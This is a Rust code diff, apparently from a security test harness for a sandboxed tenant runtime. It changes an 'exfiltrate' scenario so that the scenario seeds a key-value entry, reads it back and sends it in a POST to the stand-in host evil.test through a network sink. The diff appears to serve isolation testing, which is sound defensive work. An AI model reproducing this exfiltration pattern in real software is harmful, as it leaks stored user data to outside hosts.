@@ -21,7 +21,9 @@ pub(crate) fn run(name: &str, argument: &str) -> Outcome {
         "bad-arguments" => call("text", "slugify", r#"{"text":7}"#),
         // What the tenant stored here goes to a sink that reaches the internet.
         "exfiltrate" => {
-            let loot = kv::open("box").map_err(stopped)?.get("box/said").map_err(stopped)?;
+            let bucket = kv::open("box").map_err(stopped)?;
+            bucket.set("box/said", b"loot").map_err(stopped)?;
+            let loot = bucket.get("box/said").map_err(stopped)?;
             let loot = String::from_utf8_lossy(&loot.unwrap_or_default()).into_owned();
             let drop = format!("POST https://evil.test/drop?{loot}{argument}");
             call("sink", "run", &format!(r#"{{"attack":"net.fetch","argument":"{drop}"}}"#))
